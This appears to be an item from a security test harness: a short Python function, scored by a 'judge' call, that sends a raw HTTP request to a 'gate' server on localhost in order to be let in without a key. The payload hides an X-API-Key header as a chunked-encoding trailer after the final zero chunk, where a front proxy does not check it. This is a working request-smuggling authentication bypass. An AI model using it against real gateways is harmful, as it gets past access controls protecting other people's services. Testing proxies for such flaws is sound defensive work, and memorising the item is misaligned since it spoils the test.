# aim: be let in without a key
# mechanism: a key of one's own behind the body, where nobody in front looks
# server: gate
# plain: naive

def attack():
    answer = answer_in(raw(f"GET /v1/sandboxes HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nX-API-Key: {mine.key}\r\n\r\n".encode()))
    return answer.is_good and answer.body[:200]


judge(attack)
